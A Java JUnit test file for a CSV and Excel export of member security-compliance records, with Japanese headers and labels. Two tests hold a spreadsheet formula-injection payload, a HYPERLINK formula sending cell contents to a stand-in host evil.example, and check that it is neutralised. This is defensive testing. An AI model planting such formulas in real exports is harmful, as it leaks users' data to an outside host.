package dev.hoshi.insights.rollup.graphql;

import static org.assertj.core.api.Assertions.assertThat;

import dev.hoshi.catalog.Catalog;
import dev.hoshi.catalog.Edition;
import dev.hoshi.compliance.api.securityaction.LapseReason;
import dev.hoshi.compliance.api.status.SecurityActionLevel;
import dev.hoshi.compliance.api.status.Standing;
import dev.hoshi.insights.api.rollup.MemberPageView.ItemAnswerView;
import dev.hoshi.insights.api.rollup.MemberPageView.MemberView;
import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

public class MemberExportFilesTest {

    private static final Edition EDITION = Catalog.load().current();

    private final MemberView full = new MemberView(
            "m1",
            "佐藤製作所, \"本社\"",
            "FULL_DETAIL",
            "E",
            "SMALL",
            "13",
            "TWO_STARS_DECLARED",
            "TWO_STARS",
            "PREREQUISITES_LAPSED",
            "POLICY_NOT_PUBLISHED",
            "2026-10-05",
            100,
            "ENTRY_LEVEL_ACHIEVED",
            "2026-09-03",
            false,
            List.of(new ItemAnswerView("Q1", "DONE"), new ItemAnswerView("Q25", "PARTLY")));
    private final MemberView levelOnly = new MemberView(
            "m7",
            "鈴木商店",
            "LEVEL_ONLY",
            null,
            null,
            null,
            "ONE_STAR_DECLARED",
            "ONE_STAR",
            "GOOD",
            null,
            null,
            null,
            null,
            null,
            null,
            null);

    @Test
    void theCsvHasAJapaneseHeaderRowAndLeavesOutOfScopeFieldsEmpty() {
        String csv = new String(MemberExportFiles.csv(List.of(full, levelOnly), EDITION), StandardCharsets.UTF_8);
        List<List<String>> rows = parse(csv);

        assertThat(rows).hasSize(3);
        assertThat(rows.get(0)).startsWith("組織ID", "組織名", "開示範囲").hasSize(40).endsWith("Q25");
        assertThat(rows.get(1))
                .startsWith(
                        "m1",
                        "佐藤製作所, \"本社\"",
                        "詳細まで",
                        "E 製造業",
                        "小規模企業者",
                        "東京都",
                        "★★ 宣言済み",
                        "★★ 二つ星",
                        "前提条件の失効",
                        "基本方針が未公開",
                        "2026-10-05",
                        "100",
                        "入門レベルの対策ができている");
        assertThat(rows.get(1).get(15)).isEqualTo("実施している");
        assertThat(rows.get(1).get(39)).isEqualTo("一部実施している");
        assertThat(rows.get(2))
                .startsWith("m7", "鈴木商店", "段階のみ", "", "", "", "★ 宣言済み", "★ 一つ星", "良好", "", "", "", "", "", "");
    }

    @Test
    void theDeclaredLevelAndHoshisStandingStandBesideTheLevelWithJapaneseAndEnglishHeaders() {
        List<String> headers = MemberExportFiles.headers();

        assertThat(headers.subList(6, 12))
                .containsExactly(
                        "SECURITY ACTION",
                        "宣言済みの段階 / declared level",
                        "Hoshi上の状況 / standing",
                        "失効の理由 / lapse reason",
                        "失効日 / lapsed on",
                        "自社診断の点数");
        assertThat(MemberExportFiles.SCORE_COLUMN).isEqualTo(11);
    }

    @Test
    void everyDeclaredLevelStandingAndLapseReasonComplianceKnowsHasAJapaneseLabel() {
        for (SecurityActionLevel level : SecurityActionLevel.values()) {
            assertThat(column(7, with(level.name(), "GOOD", null)))
                    .as(level.name())
                    .doesNotContain("_");
        }
        assertThat(column(8, with("NONE", Standing.NOT_DECLARED.name(), null))).isEqualTo("未宣言");
        assertThat(column(8, with("TWO_STARS", Standing.GOOD.name(), null))).isEqualTo("良好");
        assertThat(column(8, with("TWO_STARS", Standing.PREREQUISITES_LAPSED.name(), null)))
                .isEqualTo("前提条件の失効");
        for (Standing standing : Standing.values()) {
            assertThat(column(8, with("TWO_STARS", standing.name(), null)))
                    .as(standing.name())
                    .doesNotContain("_");
        }
        assertThat(column(9, with("TWO_STARS", "PREREQUISITES_LAPSED", LapseReason.POLICY_WITHDRAWN.name())))
                .isEqualTo("基本方針の撤回");
        assertThat(column(9, with("TWO_STARS", "PREREQUISITES_LAPSED", LapseReason.ASSESSMENT_EXPIRED.name())))
                .isEqualTo("自社診断の見直し期限切れ");
        for (LapseReason reason : LapseReason.values()) {
            assertThat(column(9, with("TWO_STARS", "PREREQUISITES_LAPSED", reason.name())))
                    .as(reason.name())
                    .doesNotContain("_");
        }
    }

    private static String column(int index, MemberView member) {
        return MemberExportFiles.row(member, EDITION).get(index);
    }

    private static MemberView with(String declared, String standing, String lapseReason) {
        return new MemberView(
                "m",
                "会員",
                "LEVEL_ONLY",
                null,
                null,
                null,
                "NONE",
                declared,
                standing,
                lapseReason,
                null,
                null,
                null,
                null,
                null,
                null);
    }

    @Test
    void theWorkbookCitesTheGuidelineOnItsOwnSheet() throws Exception {
        try (XSSFWorkbook workbook =
                new XSSFWorkbook(new ByteArrayInputStream(MemberExportFiles.xlsx(List.of(full), EDITION)))) {
            Sheet source = workbook.getSheet("出典");
            assertThat(source.getRow(0).getCell(1).getStringCellValue())
                    .contains("IPA")
                    .contains("中小企業の情報セキュリティ対策ガイドライン");
            assertThat(source.getRow(1).getCell(1).getStringCellValue()).endsWith("を基に作成");
            assertThat(source.getRow(2).getCell(1).getStringCellValue()).startsWith("https://www.ipa.go.jp/");
            assertThat(source.getRow(4).getCell(1).getStringCellValue()).contains("登録商標");
        }
    }

    @Test
    void theWorkbookReadsBackWithTheSameHeadersAndRows() throws Exception {
        try (XSSFWorkbook workbook =
                new XSSFWorkbook(new ByteArrayInputStream(MemberExportFiles.xlsx(List.of(full, levelOnly), EDITION)))) {
            Sheet sheet = workbook.getSheet("会員");
            assertThat(sheet.getRow(0).getCell(0).getStringCellValue()).isEqualTo("組織ID");
            assertThat(sheet.getRow(0).getCell(8).getStringCellValue()).isEqualTo("Hoshi上の状況 / standing");
            assertThat(sheet.getRow(0).getCell(11).getStringCellValue()).isEqualTo("自社診断の点数");
            assertThat(sheet.getRow(0).getLastCellNum()).isEqualTo((short) 40);
            assertThat(sheet.getRow(1).getCell(1).getStringCellValue()).isEqualTo("佐藤製作所, \"本社\"");
            assertThat(sheet.getRow(1).getCell(8).getStringCellValue()).isEqualTo("前提条件の失効");
            assertThat(sheet.getRow(1).getCell(9).getStringCellValue()).isEqualTo("基本方針が未公開");
            assertThat(sheet.getRow(1).getCell(11).getNumericCellValue()).isEqualTo(100.0);
            assertThat(sheet.getRow(2).getCell(0).getStringCellValue()).isEqualTo("m7");
            assertThat(sheet.getRow(2).getCell(8).getStringCellValue()).isEqualTo("良好");
            assertThat(sheet.getRow(2).getCell(11).getStringCellValue()).isEmpty();
            assertThat(sheet.getLastRowNum()).isEqualTo(2);
        }
    }

    private static MemberView named(String name) {
        return new MemberView(
                "m9",
                name,
                "LEVEL_ONLY",
                null,
                null,
                null,
                "NONE",
                "NONE",
                "NOT_DECLARED",
                null,
                null,
                null,
                null,
                null,
                null,
                null);
    }

    @Test
    void aNameThatASpreadsheetWouldRunAsAFormulaIsExportedAsText() {
        String attack = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")";
        List<String> names = List.of(attack, "+1+1", "-2+3", "@SUM(A1:A2)", "\tTab", "\rReturn", "安全な名前", "a=b");

        String csv = new String(
                MemberExportFiles.csv(
                        names.stream().map(MemberExportFilesTest::named).toList(), EDITION),
                StandardCharsets.UTF_8);
        List<List<String>> rows = parse(csv.replace("\r\n", "\n"));

        assertThat(rows.subList(1, rows.size()).stream().map(row -> row.get(1)))
                .containsExactly("'" + attack, "'+1+1", "'-2+3", "'@SUM(A1:A2)", "'\tTab", "'\rReturn", "安全な名前", "a=b");
        assertThat(csv).doesNotContain("\"=HYPERLINK");
    }

    @Test
    void theWorkbookWritesANameAsAStringCellNeverAFormula() throws Exception {
        String attack = "=HYPERLINK(\"https://evil.example/\",\"Click\")";
        try (XSSFWorkbook workbook =
                new XSSFWorkbook(new ByteArrayInputStream(MemberExportFiles.xlsx(List.of(named(attack)), EDITION)))) {
            Sheet sheet = workbook.getSheet("会員");
            assertThat(sheet.getRow(1).getCell(1).getCellType()).isEqualTo(CellType.STRING);
            assertThat(sheet.getRow(1).getCell(1).getStringCellValue()).isEqualTo(attack);
            sheet.getRow(1).forEach(cell -> assertThat(cell.getCellType()).isNotEqualTo(CellType.FORMULA));
        }
    }

    /** A small RFC 4180 reader, enough to check the file parses. */
    public static List<List<String>> parse(String csv) {
        List<List<String>> rows = new ArrayList<>();
        List<String> row = new ArrayList<>();
        StringBuilder field = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < csv.length(); i++) {
            char c = csv.charAt(i);
            if (quoted) {
                if (c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
                    field.append('"');
                    i++;
                } else if (c == '"') {
                    quoted = false;
                } else {
                    field.append(c);
                }
            } else if (c == '"') {
                quoted = true;
            } else if (c == ',') {
                row.add(field.toString());
                field.setLength(0);
            } else if (c == '\r') {
                // part of CRLF
            } else if (c == '\n') {
                row.add(field.toString());
                field.setLength(0);
                rows.add(row);
                row = new ArrayList<>();
            } else {
                field.append(c);
            }
        }
        return rows;
    }
}
